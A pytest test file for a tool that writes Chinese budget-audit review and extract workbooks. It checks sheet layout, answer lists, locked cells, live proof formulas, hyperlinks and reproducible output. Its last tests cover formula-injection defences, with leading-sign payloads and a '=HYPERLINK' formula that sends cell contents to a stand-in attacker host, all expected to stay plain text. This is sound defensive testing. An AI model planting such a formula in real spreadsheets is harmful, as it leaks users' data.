import itertools
import re
import zipfile
from collections.abc import Callable, Sequence
from dataclasses import replace
from decimal import Decimal
from html import unescape
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter

from kpi.amounts import ZERO, Interval, exact, printed
from kpi.checks.money import proof_of
from kpi.model.disclosure import Disclosure
from kpi.model.finding import Figure, Proof, Relation, Review
from kpi.reporting import ledger, xlsx
from tests.reporting import builders
from tests.reporting.hostile import PAYLOADS, hostile_review
from tests.snapshots import check_snapshot

Convert = Callable[[Path, str], Path]
ANSWERS = ("处理方式", "说明", "责任人", "日期")
SHEETS = ["汇总", "项目审核表", "问题清单", "整改台账", "勾稽计算", "未执行检查", "规则说明"]
OURS = re.compile(r"=(?:[A-Z]+\d+|[-+*()/\d<=,:]|SUM|IF|ROUND|AND|\"相符\"|\"不符\")+")
"""What a formula of ours is made of: references, numbers, a few functions and two words."""


@pytest.fixture
def workbook(review: Review, tmp_path: Path) -> Path:
    path = tmp_path / "review.xlsx"
    xlsx.write_review(review, path)
    return path


@pytest.fixture
def extract(review: Review, tmp_path: Path) -> Path:
    path = tmp_path / "extract.xlsx"
    xlsx.write_extract(review.documents, path)
    return path


def _listing(path: Path) -> str:
    """Return a workbook as text: sheet by sheet, row by row."""
    lines = []
    for sheet in load_workbook(path).worksheets:
        lines.append(f"# {sheet.title}")
        rows = sheet.iter_rows(values_only=True)
        lines += [" | ".join("" if value is None else str(value) for value in row) for row in rows]
    return "\n".join(lines) + "\n"


def _records(path: Path, sheet: str) -> list[dict[str, Any]]:
    head, *rows = load_workbook(path)[sheet].iter_rows(values_only=True)
    return [dict(zip(map(str, head), row, strict=True)) for row in rows]


def test_the_workbooks_read_as_agreed(workbook: Path, extract: Path, snapshots: Path) -> None:
    check_snapshot(_listing(workbook), snapshots / "review.xlsx.txt")
    check_snapshot(_listing(extract), snapshots / "extract.xlsx.txt")


def test_the_sheets_that_an_office_expects_are_there(workbook: Path) -> None:
    sheets = load_workbook(workbook).worksheets
    assert [sheet.title for sheet in sheets if sheet.sheet_state == "visible"] == SHEETS


def test_every_finding_is_listed_with_room_for_an_answer(workbook: Path, review: Review) -> None:
    rows = _records(workbook, "问题清单")
    assert [row["问题编号"] for row in rows] == [finding.fingerprint for finding in review.findings]
    assert [row["序号"] for row in rows] == list(range(1, len(rows) + 1))
    assert all(row["问题描述"] and row["修改建议"] and row["依据"] and row["位置"] for row in rows)
    answers = _records(workbook, "整改台账")
    assert [row["问题编号"] for row in answers] == [row["问题编号"] for row in rows]
    assert all(row[title] is None for row in answers for title in ANSWERS)
    assert rows[3]["计算过程"].startswith("项目支出控制数 = 96.75 ～ 96.85万元；应不超过预算数")


def test_the_department_chooses_its_answer_from_a_list(workbook: Path) -> None:
    sheet = load_workbook(workbook)["整改台账"]
    column = next(cell.column_letter for cell in sheet[1] if cell.value == "处理方式")
    choice = next(one for one in sheet.data_validations.dataValidation if one.type == "list")
    assert choice.formula1 == '"已改,说明,不适用"'
    assert str(choice.sqref) == f"{column}2:{column}11"


def test_the_department_can_only_write_its_answers(workbook: Path) -> None:
    sheet = load_workbook(workbook)["整改台账"]
    assert sheet.protection.sheet
    assert sheet.protection.password is None
    titles = [cell.value for cell in sheet[1]]
    open_cells = {title for title, cell in zip(titles, sheet[2], strict=True) if not cell.protection.locked}
    assert open_cells == set(ANSWERS)


def test_a_proof_is_a_live_formula_over_its_figures(workbook: Path) -> None:
    rows = list(load_workbook(workbook)["勾稽计算"].iter_rows(values_only=True))
    formulas = [cell for row in rows for cell in row if isinstance(cell, str) and cell.startswith("=")]
    assert formulas
    assert all(OURS.fullmatch(formula) for formula in formulas)


def _proved(review: Review, *proofs: Proof) -> Review:
    """Return the review with only so many findings, each with one of the proofs."""
    found = zip(review.findings, proofs, strict=False)
    return replace(review, findings=tuple(replace(finding, proof=proof) for finding, proof in found))


def _proof(formula: str, relation: Relation, wanted: str, *ends: tuple[str, str]) -> Proof:
    """Return a proof over figures from and to; its result is the formula's by interval arithmetic."""
    figures = tuple(Figure("数", "", Decimal(low), Decimal(high), "万元", None) for low, high in ends)
    terms = {f"A{number}": Interval(one.low, one.high) for number, one in enumerate(figures, 1)}
    total = ZERO
    for part in formula.split(" + "):
        product = exact(1)
        for term in part.split(" × "):
            product = product.times(terms[term])
        total += product
    stated = Figure("预算数", wanted, *printed(Decimal(wanted)), "万元", None)
    return proof_of(formula, figures, total, stated, relation)


PROOFS = (
    _proof("A1", "<=", "86.80", ("96.75", "96.85")),
    _proof("A1 + A2 + A3", "==", "10.00", ("1.005", "1.015"), ("2.5", "3.5"), ("7", "7")),
    _proof("A1 × A2 + A3", "==", "62.00", ("46", "46"), ("1.15", "1.25"), ("0.995", "1.005")),
    _proof("A1 × A2 × A3", ">=", "0.75", ("12", "12"), ("0.0595", "0.0605"), ("1", "1")),
    _proof("A1 + A2", "==", "3.00", ("0.995", "1.005"), ("1.995", "2.005")),
    _proof("A1 + A2", "==", "1.03", ("0.005", "0.015"), ("1.00", "1.01")),
)


def _results(path: Path) -> list[tuple[tuple[Any, ...], tuple[Any, ...]]]:
    """Return the last two rows of every proof of a workbook: the result, and what it is held against."""
    rows = [*load_workbook(path, data_only=True)["勾稽计算"].iter_rows(min_row=2, values_only=True)]
    return [pair for pair in itertools.pairwise(rows) if pair[0][3] == "计算"]


def _misses(proof: Proof) -> bool:
    computed, stated = Interval(*proof.computed), Interval(proof.stated.low, proof.stated.high)
    if proof.relation == "<=":
        return computed.above(stated)
    return stated.above(computed) if proof.relation == ">=" else not computed.overlaps(stated)


def _check_results(path: Path, proofs: Sequence[Proof]) -> None:
    for (result, stated), proof in zip(_results(path), proofs, strict=True):
        assert result[8:10] == pytest.approx(tuple(map(float, proof.computed)))
        assert stated[8:10] == pytest.approx((float(proof.stated.low), float(proof.stated.high)))
        assert stated[10:12] == pytest.approx((float(proof.tolerance), float(proof.difference)))
        assert stated[12] == ("不符" if _misses(proof) else "相符")


def test_a_viewer_that_calculates_nothing_shows_our_figures(review: Review, tmp_path: Path) -> None:
    path = tmp_path / "proofs.xlsx"
    xlsx.write_review(_proved(review, *PROOFS), path)
    _check_results(path, PROOFS)
    assert {stated[12] for _, stated in _results(path)} == {"相符", "不符"}


def test_an_office_program_recalculates_the_proofs_to_our_figures(
    review: Review, tmp_path: Path, convert: Convert
) -> None:
    written, bare = tmp_path / "written.xlsx", tmp_path / "bare" / "bare.xlsx"
    xlsx.write_review(_proved(review, *PROOFS), written)
    bare.parent.mkdir()
    book = load_workbook(written)
    book.save(bare)  # openpyxl keeps formulas without their results, so that they must be calculated
    assert all(result[8] is None for result, _ in _results(bare))
    _check_results(convert(bare, "xlsx"), PROOFS)


@pytest.mark.parametrize("formula", ["A1 - A2", "A1 + A9", "A1 + 5", 'HYPERLINK("x")', "A1 + B2", ""])
def test_what_is_no_sum_of_products_is_no_formula(formula: str, review: Review, tmp_path: Path) -> None:
    path = tmp_path / "foreign.xlsx"
    proof = replace(PROOFS[4], formula=formula)
    xlsx.write_review(_proved(review, proof), path)
    result = next(
        row for row in load_workbook(path)["勾稽计算"].iter_rows(values_only=True) if row[3] == "计算"
    )
    assert result[8:10] == (2.99, 3.01)
    assert "不能在表中重算" in str(result[4])


def test_a_formula_that_would_come_to_something_else_is_not_written(review: Review, tmp_path: Path) -> None:
    path = tmp_path / "other.xlsx"
    xlsx.write_review(_proved(review, replace(PROOFS[4], formula="A1 × A2")), path)
    result = next(
        row for row in load_workbook(path)["勾稽计算"].iter_rows(values_only=True) if row[3] == "计算"
    )
    assert result[8:10] == (2.99, 3.01)


def test_findings_projects_and_answers_lead_to_each_other(workbook: Path, review: Review) -> None:
    book = load_workbook(workbook)
    ways = {
        (sheet.title, cell.coordinate): cell.hyperlink.location
        for sheet in book.worksheets
        for (cell,) in sheet.iter_rows(max_col=1)
        if cell.hyperlink
    }
    for line, finding in enumerate(review.findings, 2):
        assert ways["整改台账", f"A{line}"] == f"'问题清单'!A{line}"
        assert finding.project is not None
        assert ways["问题清单", f"A{line}"] == f"'项目审核表'!A{finding.project.no + 1}"
    projects = {cell.value: cell.hyperlink.location for cell in book["项目审核表"]["B"][1:]}
    assert projects == {1: "'问题清单'!A2", 2: "'问题清单'!A8"}
    assert ways["勾稽计算", "A2"] == "'问题清单'!A5"


def test_only_dates_are_taken_for_dates(workbook: Path) -> None:
    sheet = load_workbook(workbook)["整改台账"]
    rules = {str(rule.sqref): rule for rule in sheet.data_validations.dataValidation if rule.type == "date"}
    titles = {cell.value: get_column_letter(number) for number, cell in enumerate(sheet[1], 1)}
    assert rules.keys() == {f"{titles[title]}2:{titles[title]}11" for title in ("日期", "销号日期")}
    assert {sheet[f"{titles[title]}2"].number_format for title in ("日期", "销号日期")} == {"yyyy-mm-dd"}


def test_the_ledger_carries_the_state_of_each_finding_out_of_sight(workbook: Path, review: Review) -> None:
    sheet = load_workbook(workbook)["整改台账"]
    column = {cell.value: get_column_letter(number) for number, cell in enumerate(sheet[1], 1)}[ledger.STATE]
    assert sheet.column_dimensions[column].hidden
    assert [cell.value for cell in sheet[column][1:]] == [finding.state for finding in review.findings]


def test_the_same_review_gives_the_same_bytes(workbook: Path, review: Review, tmp_path: Path) -> None:
    again = tmp_path / "again.xlsx"
    xlsx.write_review(review, again)
    assert again.read_bytes() == workbook.read_bytes()
    with zipfile.ZipFile(again) as package:
        assert {info.date_time for info in package.infolist()} == {(2000, 1, 1, 0, 0, 0)}
        assert b"2000-01-01T00:00:00Z</dcterms:modified>" in package.read("docProps/core.xml")


@pytest.mark.parametrize("title", ["项目审核表", "问题清单", "整改台账", "未执行检查", "规则说明"])
def test_tables_scroll_filter_and_print_well(workbook: Path, title: str) -> None:
    sheet = load_workbook(workbook)[title]
    assert str(sheet.freeze_panes).endswith("2")
    assert sheet.auto_filter.ref == sheet.dimensions
    assert sheet.print_title_rows == "$1:$1"
    assert (sheet.page_setup.orientation, str(sheet.page_setup.paperSize)) == ("landscape", "9")
    assert (sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) == (1, 0)
    assert all(cell.alignment.wrap_text for cell in sheet[1])


def test_amounts_are_numbers_with_their_decimals(extract: Path) -> None:
    canal, pump = _records(extract, "项目")
    assert (canal["预算数（万元）"], canal["预算数原文"], pump["预算数原文"]) == (
        86.8,
        "86.80万元",
        "235,000元",
    )
    assert (canal["12月底（%）"], pump["3月底（%）"], pump["12月底（%）"]) == (None, "空白", 100)
    sheet = load_workbook(extract)["项目"]
    formats = {cell.number_format for cell in sheet["H"][1:]}
    assert formats == {"#,##0.00"}


def test_a_share_of_nothing_is_a_zero_and_no_blank(tmp_path: Path) -> None:
    project = replace(builders.canal_project(), plan=builders.plan(5, m3="0", m6=None))
    path = tmp_path / "zero.xlsx"
    xlsx.write_extract([Disclosure("a.txt", projects=(project,))], path)
    (row,) = _records(path, "项目")
    assert (row["3月底（%）"], row["6月底（%）"]) == (0, "空白")


def test_an_indicator_row_has_its_value_understood(extract: Path) -> None:
    row = _records(extract, "指标")[4]
    assert (row["指标值"], row["值·类型"], row["值·符号"]) == ("≤96.8万元", "quantity", "<=")
    assert (row["值·数值"], row["值·单位"], row["读取位置"]) == (96.8, "万元", "第114行")
    assert _records(extract, "指标")[3]["值·时限"] == "2025-10-底"
    assert _records(extract, "指标")[6]["读取存疑"] == "本格可能有一部分印在下一页"


def test_a_file_that_failed_is_listed(extract: Path) -> None:
    assert _records(extract, "文件")[1]["未能读取的代码"] == "NO_TEXT_LAYER"


def test_a_number_too_long_for_a_sheet_stays_exact(tmp_path: Path) -> None:
    long = builders.quantity("≥1234567890123456789元", ">=", "1234567890123456789", "元")
    row = replace(builders.canal_project().indicators[0], constraint=long)
    path = tmp_path / "long.xlsx"
    project = replace(builders.canal_project(), indicators=(row,))
    xlsx.write_extract([Disclosure("a.txt", projects=(project,))], path)
    assert _records(path, "指标")[0]["值·数值"] == "1234567890123456789"


def test_an_empty_review_is_a_workbook_too(tmp_path: Path, clean_review: Review) -> None:
    path = tmp_path / "clean.xlsx"
    xlsx.write_review(clean_review, path)
    assert _records(path, "问题清单") == []
    assert load_workbook(path)["汇总"]["A3"].value == "未发现问题"


@pytest.mark.parametrize("payload", PAYLOADS, ids=lambda payload: ascii(payload[:24]))
def test_nothing_from_a_cell_becomes_a_formula(payload: str, tmp_path: Path) -> None:
    review, paths = hostile_review(payload), (tmp_path / "review.xlsx", tmp_path / "extract.xlsx")
    xlsx.write_review(review, paths[0])
    xlsx.write_extract(review.documents, paths[1])
    for path in paths:
        with zipfile.ZipFile(path) as package:
            parts = [package.read(name).decode() for name in package.namelist() if "worksheets/" in name]
            formulas = [found for part in parts for found in re.findall(r"<f(?: [^>]*)?>(.*?)</f>", part)]
            assert all(OURS.fullmatch(f"={unescape(formula)}") for formula in formulas)
            assert not any('t="e"' in part for part in parts)
            assert not [name for name in package.namelist() if "externalLink" in name]
        for sheet in load_workbook(path):
            kinds = {cell.data_type for row in sheet for cell in row}
            assert kinds <= ({"s", "n", "f"} if sheet.title == "勾稽计算" else {"s", "n"})


@pytest.mark.parametrize("payload", ["=1+1", "+1", "-1", "@A", "＝1", "＋1", "－1", "＠A"])
def test_a_leading_sign_stays_text_when_somebody_edits_the_cell(payload: str, tmp_path: Path) -> None:
    path = tmp_path / "review.xlsx"
    xlsx.write_review(hostile_review(payload), path)
    sheet = load_workbook(path)["问题清单"]
    cells = [cell for cell in sheet[2] if cell.value == payload]
    assert cells
    assert all(cell.quotePrefix for cell in cells)


def test_a_text_too_long_for_a_cell_is_cut_visibly(tmp_path: Path) -> None:
    path = tmp_path / "review.xlsx"
    xlsx.write_review(hostile_review("长" * 40_000), path)
    text = load_workbook(path)["问题清单"]["E2"].value
    assert len(text) == 32_767
    assert text.endswith("…（过长，已截断）")


def test_an_office_program_opens_the_workbooks(workbook: Path, extract: Path, convert: Convert) -> None:
    assert convert(workbook, "pdf").read_bytes().startswith(b"%PDF")
    assert convert(extract, "pdf").read_bytes().startswith(b"%PDF")


@pytest.mark.parametrize(
    ("payload", "shown"),
    [
        (
            '=HYPERLINK("http://attacker.invalid/?"&A1)',
            "=HYPERLINK(&quot;http://attacker.invalid/?&quot;&amp;A1)",
        ),
        ("坏\x00字\x08_x0041_", "坏␀字␈_x0041_"),
    ],
)
def test_an_office_program_sees_the_text_as_it_is(
    payload: str, shown: str, tmp_path: Path, convert: Convert
) -> None:
    source = tmp_path / "hostile.xlsx"
    xlsx.write_review(hostile_review(payload), source)
    flat = convert(source, "fods").read_text(encoding="utf-8")
    formulas = {unescape(found) for found in re.findall(r'table:formula="([^"]*)"', flat)}
    assert all("[." in formula and payload not in formula for formula in formulas)
    assert f"<text:p>{shown}</text:p>" in flat
